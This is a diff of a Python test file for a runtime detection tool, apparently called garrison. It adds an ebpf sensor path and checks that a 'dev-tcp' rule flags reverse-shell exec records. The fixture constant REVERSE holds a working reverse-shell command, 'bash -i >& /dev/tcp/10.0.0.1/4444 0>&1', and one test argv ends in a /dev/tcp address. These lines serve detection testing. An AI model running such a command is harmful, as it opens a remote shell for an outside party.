@@ -25,9 +25,20 @@ from garrison.runtime.sensors.proc_connector import ProcConnectorSensor
 REVERSE = ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]
 
 
-def _record(pid: int, when: float, argv: list[str], *, cap: int = 112, path: str = "/usr/bin/bash") -> Event:
-    """An exec record as the bpftrace sensor makes it from bpftrace's JSON line."""
+def _record(
+    pid: int, when: float, argv: list[str], *, cap: int = 112, path: str = "/usr/bin/bash", kernel: str = "bpftrace"
+) -> Event:
+    """An exec record as the bpftrace sensor makes it from bpftrace's JSON line, or as the ebpf
+    sensor makes it from its ring-buffer record (``kernel="ebpf"``: 256 bytes of argv, exact)."""
     data = b"".join(a.encode() + b"\0" for a in argv)
+    if kernel == "ebpf":
+        from garrison.runtime.sensors import ebpf
+
+        rec = ebpf._REC.pack(ebpf.REC_EXEC, pid, pid, 0, int(when * 1e9), 1, b"x", 0, 0, 0, len(data), path.encode(), data[:256])
+        made = ebpf.parse_rec(rec, 0.0)
+        assert made is not None
+        made.time = when
+        return made
     fields = ["exec", str(pid), str(int(when * 1e9)), str(len(data)), path, escape(data[:cap])]
     line = '{"type": "printf", "data": ' + _json(SEP.join(fields) + "\n") + "}"
     event, lost = parse_record(line, 0.0)
@@ -90,12 +101,13 @@ def _exec(pid: int, when: float) -> Event:
     return Event(when, "execve", EventKind.PROCESS, "proc_connector", Process(pid=pid))
 
 
-def test_late_record_corrects_an_exec_evaluated_with_the_next_programs_command_line() -> None:
+@pytest.mark.parametrize("kernel", ["ebpf", "bpftrace"])
+def test_late_record_corrects_an_exec_evaluated_with_the_next_programs_command_line(kernel: str) -> None:
     pid, t = 4_000_001, 1000.0
     rules, delivered = DevTcp(), []
     pipe = _pipeline(_table_with(pid, ["bash", "-i"]), rules, delivered)
     assert pipe.process(_exec(pid, t)) == []  # /proc said "bash -i": nothing to see
-    alerts = pipe.process(_record(pid, t - 20e-6, REVERSE))  # the kernel's argv of that exec arrives
+    alerts = pipe.process(_record(pid, t - 20e-6, REVERSE, kernel=kernel))  # the kernel's argv of that exec arrives
     assert [a.rule for a in alerts] == ["dev-tcp"] and [a.rule for a in delivered] == ["dev-tcp"]
     assert (
         alerts[0].event is not None and alerts[0].event.proc.cmdline == "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
@@ -118,13 +130,14 @@ def test_record_first_corrects_before_the_rules_and_never_fires_twice() -> None:
     assert len(delivered) == 1
 
 
-def test_a_consistent_proc_read_is_kept_and_a_truncated_record_does_not_shorten_it() -> None:
+@pytest.mark.parametrize("kernel", ["ebpf", "bpftrace"])
+def test_a_consistent_proc_read_is_kept_and_a_truncated_record_does_not_shorten_it(kernel: str) -> None:
     pid, t = 4_000_003, 3000.0
-    long_argv = ["python3", "-c", "x" * 300, "/dev/tcp/1.2.3.4/1"]
+    long_argv = ["python3", "-c", "x\\x41" * 100, "/dev/tcp/1.2.3.4/1"]  # a literal \x41: not an escape
     rules, delivered = DevTcp(), []
     pipe = _pipeline(_table_with(pid, long_argv), rules, delivered)
     pipe.process(_exec(pid, t))
-    record = _record(pid, t - 1e-5, long_argv)
+    record = _record(pid, t - 1e-5, long_argv, kernel=kernel)
     assert record.args["truncated"] is True and "/dev/tcp/" not in record.proc.cmdline
     assert pipe.process(record) == []
     assert rules.seen == [" ".join(long_argv)] and len(delivered) == 1 and pipe.stats.exec_corrected == 0
